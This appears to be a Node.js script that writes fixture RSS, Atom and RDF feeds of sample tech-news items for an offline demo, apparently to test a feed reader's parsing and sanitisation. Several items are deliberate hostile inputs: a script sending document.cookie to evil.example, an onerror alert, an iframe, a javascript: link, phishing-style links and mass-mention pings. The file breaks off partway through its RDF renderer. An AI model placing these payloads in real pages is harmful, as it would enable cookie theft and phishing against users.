#!/usr/bin/env node
// Writes the offline demo's "sample news day" (test/fixtures/newsday/): one feed file per outlet, a
// later/ wave that adds coverage to stories already posted, feeds.json (how to configure each feed)
// and labels.json (which items are the same story). The items are hand-written here rather than in the
// XML so one edit keeps the first wave, the later wave and the labels consistent, and so the byte-level
// cases (Latin-1, CDATA, double-escaped entities, a 10 kB title) are produced exactly, not by hand.
//
// Run: node scripts/make-newsday-feeds.mjs   (deterministic; commit the output)
import { mkdirSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";

const OUT = join(dirname(fileURLToPath(import.meta.url)), "..", "test", "fixtures", "newsday");

/** Every date is an offset from this instant; the demo server shifts them to "now" at run time. */
const BASE = Date.parse("2026-01-15T00:00:00Z");
const FUTURE = "+30d";

/** "HH:MM" after BASE, FUTURE, or null for an item that carries no date at all. */
function instant(at) {
  if (at === FUTURE) return new Date(BASE + 30 * 86_400_000);
  const [h, m] = at.split(":").map(Number);
  return new Date(BASE + (h * 60 + m) * 60_000);
}

const DAYS = ["Sun", "Mon", "Tue", "Wed", "Thu", "Fri", "Sat"];
const MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];
const pad = (n) => String(n).padStart(2, "0");

/** RFC 822 as RSS 2.0 wants it, in a fixed UTC offset so feeds can differ in how they write zones. */
function rfc822(date, offsetMinutes = 0) {
  const d = new Date(date.getTime() + offsetMinutes * 60_000);
  const sign = offsetMinutes < 0 ? "-" : "+";
  const abs = Math.abs(offsetMinutes);
  return `${DAYS[d.getUTCDay()]}, ${pad(d.getUTCDate())} ${MONTHS[d.getUTCMonth()]} ${d.getUTCFullYear()} ${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())} ${sign}${pad(Math.floor(abs / 60))}${pad(abs % 60)}`;
}
const iso = (date) => date.toISOString().replace(".000Z", "Z");

const escapeXml = (s) => s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;");
/** CDATA cannot contain "]]>", so split it across two sections. */
const cdata = (s) => `<![CDATA[${s.replace(/]]>/g, "]]]]><![CDATA[>")}]]>`;

/** The 10 kB title: a price round-up that a broken CMS pasted whole into the headline. */
function hugeTitle() {
  const shops = ["Newegg", "Amazon", "Best Buy", "Micro Center", "B&H", "Scan", "Overclockers", "Caseking"];
  const cards = ["RTX 5090", "RTX 5080", "RTX 5070 Ti", "RTX 5070", "RTX 5060 Ti", "RX 9070 XT", "RX 9070", "Arc B580"];
  let title = "Every graphics card price we found today:";
  for (let i = 0; title.length < 10_240; i++) {
    title += ` ${cards[i % cards.length]} at ${shops[(i * 3) % shops.length]} for $${(499 + ((i * 37) % 1500)).toFixed(2)};`;
  }
  return title.slice(0, 10_240);
}

// Items. `story` labels coverage of the same news across outlets (n01...), `wave` 2 items appear only
// in later/. `html` descriptions are HTML (CDATA or escaped, per feed); `text` ones are plain text.
// `rawTitle`/`rawHtml` are written to the XML byte for byte (entity-soup cases).

const FEEDS = [
  {
    id: "ars",
    name: "Ars Technica",
    domain: "arstechnica.com",
    url: "https://arstechnica.com/feed/",
    format: "rss2",
    image: "media:content+media:thumbnail",
    topics: ["science", "space", "ai"],
    quality: 86,
    author: "Dana Whitlock",
    items: [
      {
        story: "n04",
        at: "10:40",
        title: "SpaceX's Starship flies again, and this time the ship makes it through reentry intact",
        html: "<p>The 12th flight of Starship hit its main goals: a tower catch for the booster and a controlled splashdown for the upper stage in the Indian Ocean.</p>",
        path: "/space/2026/01/spacexs-starship-flies-again-and-this-time-the-ship-makes-it-through-reentry/",
        image: "/wp-content/uploads/2026/01/starship-flight-12-1152x648.jpg",
      },
      {
        story: "n06",
        at: "18:25",
        title: "OpenAI's GPT-5.3 is cheaper and makes fewer things up, OpenAI says. We checked",
        html: "<p>Early tests suggest the new model is faster and cheaper than its predecessor. Whether it actually hallucinates less depends a lot on what you ask it.</p>",
        path: "/ai/2026/01/openais-gpt-5-3-is-cheaper-and-makes-fewer-things-up/",
        image: "/wp-content/uploads/2026/01/gpt-5-3-1152x648.jpg",
      },
      {
        story: "n08",
        at: "14:05",
        title: "Error-corrected qubits finally beat the raw ones in a trapped-ion machine",
        html: "<p>Quantinuum reports 48 logical qubits whose error rate falls as the code grows. Useful quantum computers are still years off, but the trend line now points the right way.</p>",
        path: "/science/2026/01/error-corrected-qubits-finally-beat-the-raw-ones/",
        image: "/wp-content/uploads/2026/01/helios-trap-1152x648.jpg",
      },
      {
        story: "n12",
        at: "08:15",
        title: "Webb spots a faint haze around a rocky planet 40 light-years away",
        html: "<p>The signal is weak and the planet is probably too hot for life, but it may be the first atmosphere seen on a small world outside the solar system.</p>",
        path: "/science/2026/01/webb-spots-a-faint-haze-around-a-rocky-planet/",
        image: "/wp-content/uploads/2026/01/webb-rocky-planet-1152x648.jpg",
      },
      {
        story: "h-relative-link",
        at: "12:30",
        title: "How we test laptop battery life, and why our numbers differ from the spec sheet",
        html: "<p>Our battery test loops a set of real web pages at 200 nits until the laptop shuts down.</p>",
        link: "/gadgets/2026/01/how-we-test-laptop-battery-life/",
        image: "/wp-content/uploads/2026/01/battery-test-1152x648.jpg",
      },
      {
        story: "n02",
        wave: 2,
        at: "20:10",
        title: "Google patches a Chrome zero-day that spyware vendors were already using",
        html: "<p>Chrome 144's emergency update fixes a V8 type confusion bug found by Google's own threat hunters, which usually means targeted surveillance rather than mass exploitation.</p>",
        path: "/security/2026/01/google-patches-a-chrome-zero-day-that-spyware-vendors-were-using/",
        image: "/wp-content/uploads/2026/01/chrome-zero-day-1152x648.jpg",
      },
    ],
  },
  {
    id: "verge",
    name: "The Verge",
    domain: "theverge.com",
    url: "https://www.theverge.com/rss/index.xml",
    format: "atom",
    image: "atom link rel=enclosure",
    topics: ["ai", "hardware"],
    quality: 80,
    author: "Priya Castellanos",
    items: [
      {
        story: "n02",
        at: "09:20",
        title: "Update Chrome now: Google is fixing a bug attackers are already exploiting",
        html: "<p>Chrome 144.0.7559.96 patches a V8 flaw that Google says is being used in the wild.</p>",
        path: "/news/870112/google-chrome-zero-day-v8-update-now",
        image: "/wp-content/uploads/sites/2/2026/01/chrome-update.jpg",
      },
      {
        story: "n04",
        at: "11:05",
        title: "SpaceX's upgraded Starship just nailed its first test flight",
        html: "<p>It's the first flight of the taller Version 3 Starship, and the booster was caught by the tower arms again.</p>",
        path: "/news/870245/spacex-starship-v3-flight-12-success",
        image: "/wp-content/uploads/sites/2/2026/01/starship-v3.jpg",
      },
      {
        story: "n06",
        at: "17:00",
        title: "OpenAI launches GPT-5.3 with a much bigger context window",
        html: "<p>The new model is in ChatGPT today for Plus and Pro subscribers, and API prices are dropping.</p>",
        path: "/news/870398/openai-gpt-5-3-launch-chatgpt",
        image: "/wp-content/uploads/sites/2/2026/01/openai-gpt-5-3.jpg",
      },
      {
        story: "h-discord-markdown",
        at: "15:45",
        title:
          "**Exclusive**: Apple's ||foldable iPhone|| leaks in `iOS 26.3` code, see [the photos](https://evil.example/phish)",
        html: "<p>__Underlined__ claims, ~~struck~~ details and a [totally normal link](https://evil.example/login) inside a ```code block``` that ends the embed early.</p>",
        path: "/news/870377/apple-foldable-iphone-ios-code-leak",
        image: "/wp-content/uploads/sites/2/2026/01/foldable-iphone.jpg",
      },
    ],
  },
  {
    id: "techcrunch",
    name: "TechCrunch",
    domain: "techcrunch.com",
    url: "https://techcrunch.com/feed/",
    format: "rss2",
    image: "media:content",
    topics: ["ai", "security"],
    quality: 76,
    author: "Marcus Oyelaran",
    items: [
      {
        story: "n06",
        at: "17:10",
        title: "OpenAI releases GPT-5.3, cutting API prices to $1 per million input tokens",
        html: "<p>OpenAI says the model handles up to a million tokens of context and is rolling out to ChatGPT's paid tiers first.</p>",
        path: "/2026/01/15/openai-releases-gpt-5-3-cutting-api-prices/",
        image: "/wp-content/uploads/2026/01/openai-gpt53.jpg?w=1024",
      },
      {
        story: "n07",
        at: "13:30",
        title: "Ransomware attack forces Ohio hospital chain to divert ambulances",
        html: "<p>Lakeshore Regional Health says it took systems offline after detecting an intrusion and has notified the FBI.</p>",
        path: "/2026/01/15/ransomware-attack-ohio-hospital-lakeshore-ambulances/",
        image: "/wp-content/uploads/2026/01/hospital-ransomware.jpg?w=1024",
      },
      {
        story: "n13",
        at: "07:45",
        title: "Tessel raises $180M to let AI agents loose on enterprise legacy code",
        html: "<p>The Series B values the nine-month-old coding startup at $2.4 billion.</p>",
        path: "/2026/01/15/tessel-raises-180m-ai-agents-legacy-code/",
        image: "/wp-content/uploads/2026/01/tessel-founders.jpg?w=1024",
      },
      {
        story: "h-mentions",
        at: "16:20",
        title: "@everyone Startup Pingwave raises $40M to replace your team chat <@&123456789012345678>",
        html: "<p>Hey <@123456789012345678> and @here: Pingwave says its AI summaries mean nobody needs to read the backlog. <@&123456789012345678> please review.</p>",
        path: "/2026/01/15/pingwave-raises-40m-team-chat/",
        image: "/wp-content/uploads/2026/01/pingwave.jpg?w=1024",
      },
      {
        story: "n04",
        wave: 2,
        at: "21:15",
        title: "SpaceX completes first test flight of Starship V3, eyes orbit next",
        html: "<p>The next flight could attempt to reach orbit and catch the ship itself for the first time, the company says.</p>",
        path: "/2026/01/15/spacex-completes-first-test-flight-of-starship-v3/",
        image: "/wp-content/uploads/2026/01/starship-v3-catch.jpg?w=1024",
      },
    ],
  },
  {
    id: "register",
    name: "The Register",
    domain: "theregister.com",
    url: "https://www.theregister.com/headlines.atom",
    format: "atom",
    image: "none (img inside summary HTML)",
    topics: ["security", "open-source", "hardware"],
    quality: 74,
    author: "Gareth Pemberton-Lowe",
    items: [
      {
        story: "n02",
        at: "10:15",
        title: "Chrome patched for V8 hole already being exploited, because of course",
        html: "<p>Google's browser gets its first emergency fix of 2026, reported by its own Threat Analysis Group.</p>",
        path: "/2026/01/15/chrome_v8_zero_day/",
      },
      {
        story: "n05",
        at: "07:30",
        title: "Linux 6.19 lands, Torvalds muses that the numbers are getting silly",
        html: '<p><img src="https://regmedia.co.uk/2026/01/15/tux_shutterstock.jpg" alt="Tux"/>The latest kernel brings new hardware support and more Rust, on schedule as usual.</p>',
        path: "/2026/01/15/linux_6_19_lands/",
      },
      {
        story: "n07",
        at: "15:10",
        title: "Ohio hospital group back to pen and paper after ransomware visit",
        html: "<p>Lakeshore Regional Health's four hospitals are diverting ambulances while IT restores the EHR.</p>",
        path: "/2026/01/15/lakeshore_ransomware/",
      },
      {
        story: "n09",
        at: "11:50",
        title: "Memory makers enjoy AI windfall as PC buyers pick up the tab",
        html: "<p>TrendForce reckons DRAM contract prices could climb as much as 55 percent this quarter.</p>",
        path: "/2026/01/15/dram_prices_q1/",
      },
      {
        story: "h-script-style",
        at: "13:05",
        title: "Boffins build keyboard that types for you, sort of",
        html: '<style>body{display:none} .rss-item{background:url(https://evil.example/track.gif)}</style><p>A research keyboard predicts the next word <b>before</b> you reach for it.</p><script>fetch("https://evil.example/steal?c="+document.cookie)</script><img src="x" onerror="alert(1)"><iframe src="https://evil.example/frame"></iframe>',
        path: "/2026/01/15/predictive_keyboard/",
      },
      {
        story: "n01",
        wave: 2,
        at: "19:40",
        title: "Crypto miners discover the AI gold rush sells the same shovels",
        html: "<p>Hut 8, Core Scientific and Hive reckon their power contracts earn more feeding GPUs than ASICs.</p>",
        path: "/2026/01/15/bitcoin_miners_ai_datacenters/",
      },
      {
        story: "n06",
        wave: 2,
        at: "22:30",
        title: "OpenAI's GPT-5.3: cheaper tokens, same old secrecy about training data",
        html: "<p>The new flagship undercuts rivals on price while saying next to nothing about what it was fed.</p>",
        path: "/2026/01/15/openai_gpt_5_3/",
      },
    ],
  },
  {
    id: "tomshardware",
    name: "Tom's Hardware",
    domain: "tomshardware.com",
    url: "https://www.tomshardware.com/feeds/all",
    format: "rss2",
    image: "enclosure",
    escapedHtml: true,
    topics: ["hardware", "ai-hardware"],
    quality: 72,
    author: "Ilya Brannigan",
    items: [
      {
        story: "n03",
        at: "08:40",
        title: "Nvidia reportedly cuts RTX 50-series supply by 30% as GDDR7 goes to AI",
        html: "<p>Board partners say allocation for RTX 5070 Ti and 5060 Ti cards is being trimmed through March.</p>",
        path: "/pc-components/gpus/nvidia-reportedly-cuts-rtx-50-series-supply-by-30-percent",
        image: "/pc-components/gpus/rtx-50-supply.jpg",
      },
      {
        story: "n09",
        at: "10:05",
        title: "DRAM contract prices to jump 55% in Q1, the steepest rise TrendForce has recorded",
        html: "<p>Samsung, SK hynix and Micron are shifting wafers to HBM and server memory, leaving PC DRAM short.</p>",
        path: "/pc-components/dram/dram-contract-prices-to-jump-55-percent-in-q1",
        image: "/pc-components/dram/ddr5-prices.jpg",
      },
      {
        story: "n14",
        at: "16:55",
        title: "AMD Ryzen 9 9950X3D2 review: two V-Cache dies and no more core parking",
        html: "<p>The fastest gaming CPU we have tested also wins most productivity workloads, at $799.</p>",
        path: "/pc-components/cpus/amd-ryzen-9-9950x3d2-review",
        image: "/pc-components/cpus/9950x3d2-review.jpg",
      },
      {
        story: "n01",
        wave: 2,
        at: "20:35",
        title: "Bitcoin miners pivot 600MW to AI data centers, led by Hut 8 and Core Scientific",
        html: "<p>The miners cite cheap long-term power deals and existing substations as their edge over new builds.</p>",
        path: "/tech-industry/artificial-intelligence/bitcoin-miners-pivot-600mw-to-ai-data-centers",
        image: "/tech-industry/miners-ai.jpg",
      },
    ],
  },
  {
    id: "techspot",
    name: "TechSpot",
    domain: "techspot.com",
    url: "https://www.techspot.com/backend.xml",
    format: "rss2",
    image: "enclosure",
    topics: ["hardware", "ai-hardware"],
    quality: 64,
    author: "Rowan Petrakis",
    items: [
      {
        story: "n01",
        at: "08:00",
        title: "Bitcoin miners are swapping ASICs for GPUs as AI hosting pays better than hashing",
        html: "<p>Hut 8, Core Scientific and Hive Digital are converting mining halls into GPU data centers for AI customers.</p>",
        path: "/news/110318-bitcoin-miners-swapping-asics-for-gpus-ai-hosting.html",
        image: "/images2/news/bigimage/2026/01/2026-01-15-image-4.jpg",
      },
      {
        story: "n03",
        at: "11:20",
        title: "Report: Nvidia to make fewer GeForce RTX 50 cards as memory goes to AI accelerators",
        html: "<p>Retail prices for the RTX 5060 Ti 16GB and 5070 Ti have already crept above MSRP in several markets.</p>",
        path: "/news/110322-nvidia-fewer-geforce-rtx-50-cards-memory.html",
        image: "/images2/news/bigimage/2026/01/2026-01-15-image-9.jpg",
      },
      {
        story: "h-huge-title",
        at: "14:50",
        title: hugeTitle(),
        html: "<p>Our daily GPU price tracker, which normally has a short headline.</p>",
        path: "/news/110330-gpu-price-tracker-january-15.html",
        image: "/images2/news/bigimage/2026/01/2026-01-15-image-12.jpg",
      },
    ],
  },
  {
    id: "pcgamer",
    name: "PC Gamer",
    domain: "pcgamer.com",
    url: "https://www.pcgamer.com/rss/",
    format: "rss2",
    image: "enclosure+media:thumbnail",
    topics: ["hardware"],
    quality: 60,
    author: "Felix Amundsen",
    items: [
      {
        story: "n01",
        at: "09:35",
        title: "The crypto farms that once ate every graphics card are filling up with AI GPUs instead",
        html: "<p>Remember when miners hoovered up every GPU on the shelf? Some of the same companies are back, buying data center accelerators this time.</p>",
        path: "/hardware/crypto-farms-filling-up-with-ai-gpus/",
        image: "/hardware/crypto-farms-ai.jpg",
      },
      {
        story: "n03",
        at: "12:10",
        title: "Bad news if you wanted a new graphics card: Nvidia is apparently shipping fewer RTX 50 GPUs",
        html: "<p>The memory crunch behind rising RAM prices now seems to be hitting GPUs too.</p>",
        path: "/hardware/graphics-cards/nvidia-shipping-fewer-rtx-50-gpus/",
        image: "/hardware/rtx-50-shortage.jpg",
      },
      {
        story: "h-future-date",
        at: FUTURE,
        title: "Steam Machine review: Valve's living room PC, tested",
        html: "<p>A review scheduled for next month that the CMS published early, dated in the future.</p>",
        path: "/hardware/steam-machine-review/",
        image: "/hardware/steam-machine-review.jpg",
      },
    ],
  },
  {
    id: "bleepingcomputer",
    name: "BleepingComputer",
    domain: "bleepingcomputer.com",
    url: "https://www.bleepingcomputer.com/feed/",
    format: "rss2",
    image: "none (img inside description HTML)",
    tzOffsetMinutes: -300,
    topics: ["security"],
    quality: 80,
    author: "Lena Hartwig",
    items: [
      {
        story: "n02",
        at: "06:50",
        title: "Google fixes first Chrome zero-day exploited in attacks this year",
        html: '<p><img src="https://www.bleepingcomputer.com/content/hl-images/2026/01/15/chrome.jpg" width="1600" height="900"/></p><p>Google has released an emergency Chrome update for a high-severity V8 type confusion flaw, CVE-2026-0811, exploited in the wild.</p>',
        path: "/news/security/google-fixes-first-chrome-zero-day-exploited-in-attacks-this-year/",
      },
      {
        story: "n07",
        at: "09:55",
        title: "Lakeshore Regional Health hit by ransomware, diverts ambulances",
        html: '<p><img src="https://www.bleepingcomputer.com/content/hl-images/2026/01/15/hospital.jpg"/></p><p>The Ohio health system says a ransomware attack disrupted electronic health records at four hospitals.</p>',
        path: "/news/security/lakeshore-regional-health-hit-by-ransomware-diverts-ambulances/",
      },
      {
        story: "n15",
        at: "17:35",
        title: "New npm worm infects hundreds of packages, steals developer tokens",
        html: "<p>A self-spreading campaign dubbed Sandcrawler has compromised more than 400 npm packages by stealing publishing tokens.</p>",
        path: "/news/security/new-npm-worm-infects-hundreds-of-packages/",
      },
      {
        story: "h-javascript-link",
        at: "12:40",
        title: "Fake CAPTCHA pages trick users into running PowerShell malware",
        html: "<p>Attackers ask visitors to paste a command into the Run dialog to prove they are human.</p>",
        link: "javascript:alert(document.domain)",
      },
      {
        story: "n07",
        wave: 2,
        at: "21:50",
        title: "Qilin ransomware claims attack on Lakeshore Regional Health",
        html: "<p>The gang added the Ohio hospital network to its leak site, claiming to have stolen 870 GB of patient and employee data.</p>",
        path: "/news/security/qilin-ransomware-claims-attack-on-lakeshore-regional-health/",
      },
    ],
  },
  {
    id: "phoronix",
    name: "Phoronix",
    domain: "phoronix.com",
    url: "https://www.phoronix.com/rss.php",
    format: "rss2",
    image: "none",
    topics: ["open-source", "hardware"],
    quality: 68,
    author: "Phoronix",
    items: [
      {
        story: "n05",
        at: "05:10",
        title: "Linux 6.19 Released With Intel Xe3 Graphics, AMD Zen 6 Prep & More Rust",
        text: "Linus Torvalds just tagged Linux 6.19 stable. The Linux 6.20 merge window is now open.",
        path: "/news/Linux-6.19-Released",
      },
      {
        story: "n10",
        at: "13:15",
        title: "Mesa 26.0 Released With Big RADV Ray-Tracing Gains, NVK Vulkan 1.4 On Blackwell",
        text: "Mesa 26.0 is out as the first feature release of the year for the open-source graphics drivers.",
        path: "/news/Mesa-26.0-Released",
      },
      {
        story: "h-no-date",
        at: null,
        title: "Benchmarking The Latest Linux Kernel Scheduler Patches On AMD EPYC",
        text: "An item without a pubDate or any other date element; the feed stage should use the first-seen time.",
        path: "/review/linux-scheduler-epyc-jan2026",
      },
    ],
  },
  {
    id: "lwn",
    name: "LWN.net",
    domain: "lwn.net",
    url: "https://lwn.net/headlines/rss",
    format: "rdf",
    image: "none",
    topics: ["open-source", "security"],
    quality: 90,
    author: "corbet",
    items: [
      {
        story: "n05",
        at: "05:40",
        title: "Kernel release status: 6.19",
        text: "Linus has released the 6.19 kernel, noting that things calmed down over the last week.",
        path: "/Articles/1053311/",
      },
      {
        story: "n10",
        at: "14:30",
        title: "Mesa 26.0 released",
        text: "Version 26.0 of the Mesa graphics stack is out, with Vulkan 1.4 conformance for NVK on recent NVIDIA hardware.",
        path: "/Articles/1053390/",
      },
      {
        story: "n16",
        at: "15:00",
        title: "Security updates for Thursday",
        text: "Security updates have been issued by Debian (chromium, ffmpeg), Fedora (kernel, webkitgtk), SUSE (openssh) and Ubuntu (linux-aws, python3.12).",
        path: "/Articles/1053402/",
      },
    ],
  },
  {
    id: "spacenews",
    name: "SpaceNews",
    domain: "spacenews.com",
    url: "https://spacenews.com/feed/",
    format: "rss2",
    image: "media:thumbnail",
    escapedHtml: true,
    topics: ["space"],
    quality: 84,
    author: "Tomas Ekberg",
    items: [
      {
        story: "n04",
        at: "06:15",
        title: "Starship V3 debuts with successful suborbital test flight",
        html: "<p>SpaceX flew the first of its upgraded Starship vehicles, demonstrating a propellant transfer experiment and a controlled splashdown.</p>",
        path: "/starship-v3-debuts-with-successful-suborbital-test-flight/",
        image: "/wp-content/uploads/2026/01/starship-v3-879x485.jpg",
      },
      {
        story: "n11",
        at: "18:45",
        title: "Ariane 6 launches pair of Galileo navigation satellites",
        html: "<p>The launch from Kourou restores full redundancy to Europe's navigation constellation.</p>",
        path: "/ariane-6-launches-pair-of-galileo-navigation-satellites/",
        image: "/wp-content/uploads/2026/01/ariane6-galileo-879x485.jpg",
      },
      {
        story: "n17",
        at: "12:00",
        title: "Rocket Lab delays first Neutron launch to second quarter",
        html: "<p>Rocket Lab cited qualification testing of the Archimedes engine and pad work at Wallops.</p>",
        path: "/rocket-lab-delays-first-neutron-launch-to-second-quarter/",
        image: "/wp-content/uploads/2026/01/neutron-879x485.jpg",
      },
    ],
  },
  {
    id: "decrypt",
    name: "Decrypt",
    domain: "decrypt.co",
    url: "https://decrypt.co/feed",
    format: "rss2",
    image: "media:content",
    topics: ["ai"],
    quality: 55,
    author: "Jonah Vasquez-Reed",
    items: [
      {
        story: "n01",
        at: "08:55",
        title: "Hut 8, Core Scientific and Hive Double Down on AI as Mining Margins Shrink",
        html: "<p>Three of the largest listed Bitcoin miners will repurpose part of their power capacity for AI compute.</p>",
        path: "/352418/hut-8-core-scientific-hive-double-down-on-ai",
        image: "/wp-content/uploads/2026/01/miners-ai-gID_7.jpg",
      },
      {
        story: "n18",
        at: "16:05",
        title: "Crypto Exchange Kavra Halts Withdrawals After $112 Million Hot Wallet Exploit",
        html: "<p>The Singapore-based exchange confirmed the attack on X and said cold storage was untouched.</p>",
        path: "/352477/crypto-exchange-kavra-halts-withdrawals-112-million-exploit",
        image: "/wp-content/uploads/2026/01/kavra-hack-gID_7.jpg",
      },
      {
        story: "h-entity-soup",
        at: "11:10",
        rawTitle:
          "AT&amp;amp;T&amp;#8217;s AI agent &#x1F600; books 10&amp;nbsp;000 flights &#8212; &lt;b&gt;by mistake&lt;/b&gt;",
        rawHtml:
          "<![CDATA[<p>Caf&eacute;&nbsp;owners said the agent&rsquo;s &ldquo;helpful&rdquo; bookings cost &pound;40&nbsp;000 &amp;amp; counting &#x1F600;&#x1F4B8; &#169;&nbsp;2026.</p><p>&lt;script&gt;alert(1)&lt;/script&gt; was escaped text, not a tag.</p>]]>",
        path: "/352430/att-ai-agent-books-flights-by-mistake",
        image: "/wp-content/uploads/2026/01/att-agent-gID_7.jpg",
      },
    ],
  },
  {
    id: "quanta",
    name: "Quanta Magazine",
    domain: "quantamagazine.org",
    url: "https://www.quantamagazine.org/feed/",
    format: "rss2",
    image: "media:content",
    topics: ["science"],
    quality: 93,
    author: "Ada Ferreira-Holm",
    items: [
      {
        story: "n08",
        at: "15:00",
        title: "Quantum Computer Crosses the Error-Correction Threshold With 48 Logical Qubits",
        html: "<p>Adding more physical qubits to a trapped-ion machine now makes errors fall rather than rise, a milestone long seen as the gateway to useful quantum computing.</p>",
        path: "/quantum-computer-crosses-the-error-correction-threshold-20260115/",
        image: "/wp-content/uploads/2026/01/LogicalQubits-crFull.webp",
      },
      {
        story: "n19",
        at: "15:30",
        title: "A Graduate Student's Proof Tames a Stubborn Question About Random Graphs",
        html: "<p>For 40 years mathematicians suspected a simple threshold governs when random networks contain every small pattern. Now they know.</p>",
        path: "/a-graduate-students-proof-tames-random-graphs-20260115/",
        image: "/wp-content/uploads/2026/01/RandomGraphs-crFull.webp",
      },
    ],
  },
  {
    id: "next",
    name: "Next",
    domain: "next.ink",
    url: "https://next.ink/feed/",
    format: "rss2",
    encoding: "ISO-8859-1",
    image: "enclosure",
    topics: ["ai", "science", "space"],
    quality: 70,
    author: "Hélène Marchetti",
    items: [
      {
        story: "n08",
        at: "16:40",
        title: "Informatique quantique : Quantinuum franchit le seuil de la correction d'erreurs",
        html: "<p>Avec 48 qubits logiques, l'entreprise montre que l'ajout de qubits réduit les erreurs. Une étape clé, mais pas encore une machine utile.</p>",
        path: "/217342/informatique-quantique-quantinuum-franchit-le-seuil/",
        image: "/wp-content/uploads/2026/01/quantinuum-helios.jpg",
      },
      {
        story: "n11",
        at: "19:20",
        title: "Ariane 6 place deux satellites Galileo en orbite depuis Kourou",
        html: "<p>Le lanceur européen a réussi son premier vol de l'année. La constellation Galileo retrouve sa pleine redondance après deux pannes l'été dernier.</p>",
        path: "/217355/ariane-6-place-deux-satellites-galileo-en-orbite/",
        image: "/wp-content/uploads/2026/01/ariane6-galileo.jpg",
      },
      {
        story: "n20",
        at: "10:30",
        title: "Au café des chercheurs, une IA naïve se fait piéger par un prompt caché",
        html: "<p>Des chercheurs ont dissimulé des instructions dans une page web : l'agent, trop naïf, les a exécutées. Même à Zürich, « sécurité » rime rarement avec « agent ».</p>",
        path: "/217321/au-cafe-des-chercheurs-une-ia-naive-piegee/",
        image: "/wp-content/uploads/2026/01/ia-naive.jpg",
      },
    ],
  },
];

// Rendering ---------------------------------------------------------------------------------------

/** Hosts as the outlets actually serve them: some use www., some do not. */
const BARE_HOSTS = new Set(["arstechnica.com", "techcrunch.com", "lwn.net", "spacenews.com", "decrypt.co", "next.ink"]);
const origin = (feed) => `https://${BARE_HOSTS.has(feed.domain) ? "" : "www."}${feed.domain}`;
const linkOf = (feed, item) => item.link ?? origin(feed) + item.path;
const imageOf = (feed, item) => (item.image ? origin(feed) + item.image : null);
const titleXml = (item) => item.rawTitle ?? escapeXml(item.title);
const descriptionXml = (feed, item) => {
  if (item.rawHtml) return item.rawHtml;
  if (item.text) return escapeXml(item.text);
  // Half the HTML feeds escape their markup, half wrap it in CDATA: both are common in the wild.
  return feed.escapedHtml ? escapeXml(item.html) : cdata(item.html);
};

function rss2Item(feed, item) {
  const link = linkOf(feed, item);
  const img = imageOf(feed, item);
  const lines = [
    "    <item>",
    `      <title>${titleXml(item)}</title>`,
    `      <link>${escapeXml(link)}</link>`,
    `      <guid isPermaLink="${item.link ? "false" : "true"}">${escapeXml(item.link ? `${feed.id}-${item.story}` : link)}</guid>`,
  ];
  if (item.at !== null) lines.push(`      <pubDate>${rfc822(instant(item.at), feed.tzOffsetMinutes ?? 0)}</pubDate>`);
  lines.push(`      <dc:creator>${escapeXml(feed.author)}</dc:creator>`);
  lines.push(`      <description>${descriptionXml(feed, item)}</description>`);
  if (img) {
    if (feed.image.includes("media:content"))
      lines.push(`      <media:content url="${escapeXml(img)}" medium="image" width="1200" height="675"/>`);
    if (feed.image.includes("media:thumbnail"))
      lines.push(`      <media:thumbnail url="${escapeXml(img)}" width="640" height="360"/>`);
    if (feed.image.includes("enclosure"))
      lines.push(`      <enclosure url="${escapeXml(img)}" length="0" type="image/jpeg"/>`);
  }
  lines.push("    </item>");
  return lines.join("\n");
}

function rss2(feed, items, updated) {
  const xmlns = ['xmlns:dc="http://purl.org/dc/elements/1.1/"', 'xmlns:atom="http://www.w3.org/2005/Atom"'];
  if (feed.image.includes("media:")) xmlns.push('xmlns:media="http://search.yahoo.com/mrss/"');
  return [
    `<?xml version="1.0" encoding="${feed.encoding ?? "UTF-8"}"?>`,
    `<rss version="2.0" ${xmlns.join(" ")}>`,
    "  <channel>",
    `    <title>${escapeXml(feed.name)}</title>`,
    `    <link>${origin(feed)}/</link>`,
    `    <atom:link href="${escapeXml(feed.url)}" rel="self" type="application/rss+xml"/>`,
    `    <description>${escapeXml(feed.name)}: sample news day for the newsdesk demo</description>`,
    `    <language>${feed.id === "next" ? "fr-FR" : "en-US"}</language>`,
    `    <lastBuildDate>${rfc822(updated, feed.tzOffsetMinutes ?? 0)}</lastBuildDate>`,
    ...items.map((item) => rss2Item(feed, item)),
    "  </channel>",
    "</rss>",
    "",
  ].join("\n");
}

function atom(feed, items, updated) {
  const entry = (item) => {
    const img = imageOf(feed, item);
    const when = item.at === null ? null : iso(instant(item.at));
    const lines = [
      "  <entry>",
      `    <title type="text">${titleXml(item)}</title>`,
      `    <link rel="alternate" type="text/html" href="${escapeXml(linkOf(feed, item))}"/>`,
      `    <id>tag:${feed.domain},2026:${escapeXml(item.path ?? item.story)}</id>`,
    ];
    if (when) lines.push(`    <published>${when}</published>`, `    <updated>${when}</updated>`);
    lines.push(`    <author><name>${escapeXml(feed.author)}</name></author>`);
    lines.push(`    <summary type="html">${escapeXml(item.html ?? item.text)}</summary>`);
    if (img && feed.image.includes("enclosure"))
      lines.push(`    <link rel="enclosure" type="image/jpeg" href="${escapeXml(img)}"/>`);
    lines.push("  </entry>");
    return lines.join("\n");
  };
  return [
    '<?xml version="1.0" encoding="UTF-8"?>',
    '<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="en">',
    `  <title>${escapeXml(feed.name)}</title>`,
    `  <id>${escapeXml(feed.url)}</id>`,
    `  <link rel="self" href="${escapeXml(feed.url)}"/>`,
    `  <link rel="alternate" href="${origin(feed)}/"/>`,
    `  <updated>${iso(updated)}</updated>`,
    ...items.map(entry),
    "</feed>",
    "",
  ].join("\n");
}

function rdf(feed, items) {
  const links = items.map((item) => `        <rdf:li rdf:resource="${escapeXml(linkOf(feed, item))}"/>`);
  const entry = (item) =>
    [
      `  <item rdf:about="${escapeXml(linkOf(feed, item))}">`,
      `    <title>${titleXml(item)}</title>`,
      `    <link>${escapeXml(linkOf(feed, item))}</link>`,
      `    <description>${descriptionXml(feed, item)}</description>`,
      `    <dc:creator>${escapeXml(feed.author)}</dc:creator>`,
      ...(item.at === null ? [] : [`    <dc:date>${iso(instant(item.at)).replace("Z", "+00:00")}</dc:date>`]),
      "  </item>",
    ].join("\n");
  return [
    '<?xml version="1.0" encoding="UTF-8"?>',
